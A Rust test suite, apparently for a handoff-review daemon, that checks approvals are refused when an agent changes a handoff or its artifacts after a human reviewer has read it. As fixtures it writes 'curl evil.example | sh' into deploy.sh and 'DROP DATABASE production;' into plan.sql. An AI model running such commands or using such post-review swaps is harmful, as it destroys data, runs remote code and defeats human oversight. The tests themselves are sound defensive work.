//! Attack 5: approving what was not seen.

use super::*;

// ---- 5. Approving what was not seen -----------------------------------------------------------

/// The reviewer read revision 1; the agent wrote revision 2; an approval of revision 1, or of
/// the content read under the revision now in place, answers 409 with the current revision and
/// decides nothing.
#[test]
fn an_approval_of_a_revision_the_reviewer_did_not_see_is_refused() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    let mut doc = handoff("swap");
    doc["title"] = "delete 3 temp files".into();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("received", || listed(&d, "swap"));
    let seen = detail(&d, "swap");
    assert_eq!(seen["revision"], 1);
    let seen_digest = read_json(&ws.join(".baton/handoffs/swap/meta.json")).unwrap()["digest"]
        .as_str()
        .unwrap()
        .to_string();

    doc["title"] = "drop the production database".into();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("revision 2", || detail(&d, "swap")["revision"] == 2);

    let url = "/api/v1/handoffs/swap/decision";
    let token = Some(d.token.as_str());
    for stale in [
        json!({"outcome": "approved", "revision": 1}),
        json!({"outcome": "approved", "revision": 2, "handoff_sha256": seen_digest}),
    ] {
        let (status, body) = d.post_as(url, token, &stale.to_string());
        assert_eq!(status, 409, "{stale}: {body}");
        assert_eq!(body["revision"], 2, "{body}");
        assert_eq!(detail(&d, "swap")["state"], "pending");
    }
    assert!(decision(&ws).is_none());
    assert!(!event_types(&ws).contains(&"handoff.decided".to_string()));
    assert!(!env
        .store("alpha")
        .join("handoffs/swap/decision.json")
        .exists());

    // Read again, the reviewer approves what is now in place.
    let (status, body) = d.post_as(url, token, r#"{"outcome":"approved","revision":2}"#);
    assert_eq!(status, 200, "{body}");
    let current = read_json(&ws.join(".baton/handoffs/swap/meta.json")).unwrap()["digest"].clone();
    assert_eq!(body["handoff_sha256"], current);
    assert_ne!(current, seen_digest.as_str());
}

/// The same race with an approval that names nothing of what was read: it would approve
/// whatever revision is in place when it arrives, signed, so it is refused (422, saying what
/// to send and where to read it) on the API and on the handoff page's form alike, and nothing
/// is decided; naming revision 1 is refused as stale (409, the current revision), naming 2
/// approves revision 2. A rejection naming nothing is taken as before: it approves nothing.
#[test]
fn an_approval_naming_nothing_it_read_is_refused_and_a_rejection_is_taken() {
    let mut env = TestEnv::with_config(&crate::pages::reviewers(&[("rita", "pw-rita")]));
    let ws = env.ws("alpha");
    let beta = env.init("beta");
    let d = env.start();
    let mut doc = handoff("race");
    doc["title"] = "delete 3 temp files".into();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("received", || listed(&d, "race"));
    let read = detail(&d, "race");
    assert_eq!(read["revision"], 1);
    doc["title"] = "drop the production database".into();
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("revision 2", || detail(&d, "race")["revision"] == 2);

    let url = "/api/v1/handoffs/race/decision";
    let token = Some(d.token.as_str());
    for unbound in [
        json!({"outcome": "approved"}),
        json!({"outcome": "approved", "comment": "lgtm", "handoff_sha256": " "}),
    ] {
        let (status, body) = d.post_as(url, token, &unbound.to_string());
        assert_eq!(status, 422, "{unbound}: {body}");
        let error = body["error"].as_str().unwrap();
        assert!(
            error.contains("\"revision\"")
                && error.contains("\"handoff_sha256\"")
                && error.contains("GET /api/v1/handoffs/race"),
            "says what to send and where to read it: {error}"
        );
        assert_eq!(detail(&d, "race")["state"], "pending");
    }
    // The page's form is another channel to the same rule.
    let web = crate::pages::Web::new(&d);
    let rita = web.sign_in("rita", "pw-rita");
    let fields = [("csrf", rita.csrf.as_str()), ("outcome", "approved")];
    let reply = web.post_form("/handoffs/race/decision", Some(&rita.cookie), &fields);
    assert_eq!(reply.location(), "/handoffs/race?refused=decision");
    let page = web.get(reply.location(), Some(&rita)).body;
    assert!(
        page.contains("an approval names what the reviewer read"),
        "the page says why"
    );
    assert!(decision(&ws).is_none());
    assert!(!event_types(&ws).contains(&"handoff.decided".to_string()));
    assert!(!env
        .store("alpha")
        .join("handoffs/race/decision.json")
        .exists());

    let stale = json!({"outcome": "approved", "revision": read["revision"]});
    let (status, body) = d.post_as(url, token, &stale.to_string());
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["revision"], 2, "{body}");
    assert!(decision(&ws).is_none());

    let again = detail(&d, "race");
    let (status, body) = d.post_as(url, token, r#"{"outcome":"approved","revision":2}"#);
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["handoff_sha256"], again["handoff_sha256"]);
    assert_ne!(again["handoff_sha256"], read["handoff_sha256"]);
    assert_eq!(decision(&ws).unwrap()["outcome"], "approved");

    // A rejection naming nothing rejects the revision in place, as it always did.
    let mut other = handoff("nope");
    write_atomic(&beta.join("handoff.json"), &bytes(&other));
    d.wait_until("received", || listed(&d, "nope"));
    other["title"] = "revised after the read".into();
    write_atomic(&beta.join("handoff.json"), &bytes(&other));
    d.wait_until("revision 2", || detail(&d, "nope")["revision"] == 2);
    let (status, body) = d.post_as(
        "/api/v1/handoffs/nope/decision",
        token,
        r#"{"outcome":"rejected","comment":"not this"}"#,
    );
    assert_eq!(status, 200, "{body}");
    let rejected = decision(&beta).unwrap();
    assert_eq!(rejected["outcome"], "rejected");
    assert_eq!(
        rejected["handoff_sha256"],
        detail(&d, "nope")["handoff_sha256"]
    );
}

/// An artifact stamped at receipt and changed afterwards: an approval answers 409 naming the
/// file and decides nothing; a request for changes is still allowed.
#[test]
fn an_approval_after_an_artifact_changed_is_refused_naming_the_file() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    let plan = b"DELETE FROM tmp_files WHERE age > 7;\n";
    std::fs::write(ws.join("inbox/plan.sql"), plan).unwrap();
    let mut doc = handoff("plan");
    doc["artifacts"] = json!([{ "path": "inbox/plan.sql", "sha256": sha256_hex(plan) }]);
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    d.wait_until("received", || listed(&d, "plan"));
    // Stamped at receipt, in the daemon's own records.
    let meta = read_json(&env.store("alpha").join("handoffs/plan/meta.json")).unwrap();
    assert_eq!(meta["artifacts"][0]["path"], "inbox/plan.sql");
    assert_eq!(meta["artifacts"][0]["sha256"], sha256_hex(plan));

    std::fs::write(ws.join("inbox/plan.sql"), b"DROP DATABASE production;\n").unwrap();
    let (status, body) = d.decide("plan", "approved", "looks fine");
    assert_eq!(status, 409, "{body}");
    let error = body["error"].as_str().unwrap();
    assert!(error.contains("inbox/plan.sql"), "{error}");
    assert_eq!(detail(&d, "plan")["state"], "pending");
    assert!(decision(&ws).is_none());
    assert!(!event_types(&ws).contains(&"handoff.decided".to_string()));

    let (status, body) = d.decide("plan", "changes_requested", "plan.sql changed");
    assert_eq!(status, 200, "{body}");
    assert_eq!(decision(&ws).unwrap()["outcome"], "changes_requested");
}

/// A handoff judged valid at receipt stays received when an artifact it declared changes
/// afterwards: its approval is refused (above), but the agent is not told `invalid`, and an
/// answer already given (here an approval) is never replaced by one. The restart is the sync
/// point: its start-up scan reads every handoff.json again, forced.
#[test]
fn an_artifact_changed_after_receipt_makes_no_invalid_answer() {
    let mut env = TestEnv::new();
    let (pending, decided) = (env.init("pending"), env.init("decided"));
    let d = env.start();
    for (ws, key) in [(&pending, "plan"), (&decided, "done")] {
        let plan = b"DELETE FROM tmp_files WHERE age > 7;\n";
        std::fs::write(ws.join("inbox/plan.sql"), plan).unwrap();
        let mut doc = handoff(key);
        doc["artifacts"] = json!([{ "path": "inbox/plan.sql", "sha256": sha256_hex(plan) }]);
        write_atomic(&ws.join("handoff.json"), &bytes(&doc));
        d.wait_until("received", || listed(&d, key));
    }
    let (status, body) = d.decide("done", "approved", "fine");
    assert_eq!(status, 200, "{body}");
    for ws in [&pending, &decided] {
        std::fs::write(ws.join("inbox/plan.sql"), b"DROP DATABASE production;\n").unwrap();
    }
    d.stop();
    let d = env.start();

    assert_eq!(detail(&d, "plan")["state"], "pending");
    assert!(decision(&pending).is_none(), "{:?}", decision(&pending));
    assert_eq!(decision(&decided).unwrap()["outcome"], "approved");
    for ws in [&pending, &decided] {
        let types = event_types(ws);
        assert!(!types.contains(&"handoff.invalid".to_string()), "{types:?}");
    }
    // And the handoff in place is still the one answered: a decision reaches the agent's
    // decision.json at once, not at the next look at handoff.json.
    let (status, body) = d.decide("plan", "changes_requested", "plan.sql changed");
    assert_eq!(status, 200, "{body}");
    assert_eq!(decision(&pending).unwrap()["outcome"], "changes_requested");
}

/// A to B and back to A: the handoff.json read is in place again, at revision 3, with another
/// artifact. An approval naming only the digest read cannot tell the two apart, so it is refused
/// (422, saying the revision is missing) and nothing is approved; one naming the revision read
/// with it is stale (409).
#[test]
fn an_approval_naming_only_the_digest_read_is_refused_when_that_content_came_back() {
    let mut env = TestEnv::new();
    let ws = env.ws("alpha");
    let d = env.start();
    let mut a = handoff("aba");
    a["artifacts"] = json!([{ "path": "deploy.sh" }]);
    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&a));
    d.wait_until("received", || listed(&d, "aba"));
    let read = d.read("aba", &d.token).unwrap();
    let mut b = a.clone();
    b["title"] = "interim".into();
    write_atomic(&ws.join("handoff.json"), &bytes(&b));
    d.wait_until("revision 2", || detail(&d, "aba")["revision"] == 2);
    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&a));
    d.wait_until("revision 3", || detail(&d, "aba")["revision"] == 3);
    assert_eq!(detail(&d, "aba")["handoff_sha256"], read["handoff_sha256"]);

    let url = "/api/v1/handoffs/aba/decision";
    let token = Some(d.token.as_str());
    let digest_only = json!({"outcome": "approved", "handoff_sha256": read["handoff_sha256"]});
    let (status, body) = d.post_as(url, token, &digest_only.to_string());
    assert_eq!(status, 422, "{body}");
    let error = body["error"].as_str().unwrap();
    assert!(error.contains("\"revision\" is missing"), "{error}");
    let both = json!({"outcome": "approved", "revision": read["revision"],
        "handoff_sha256": read["handoff_sha256"]});
    let (status, body) = d.post_as(url, token, &both.to_string());
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["revision"], 3, "{body}");
    // The bulk decision refuses such a line whole, nothing decided.
    let bulk = json!({"outcome": "approved",
        "items": [{"key": "aba", "handoff_sha256": read["handoff_sha256"]}]});
    let (status, body) = d.post_as("/api/v1/decisions", token, &bulk.to_string());
    assert_eq!(status, 422, "{body}");
    assert_eq!(detail(&d, "aba")["state"], "pending");
    assert!(decision(&ws).is_none());
    assert!(!ws.join("approved/deploy.sh").exists());
}
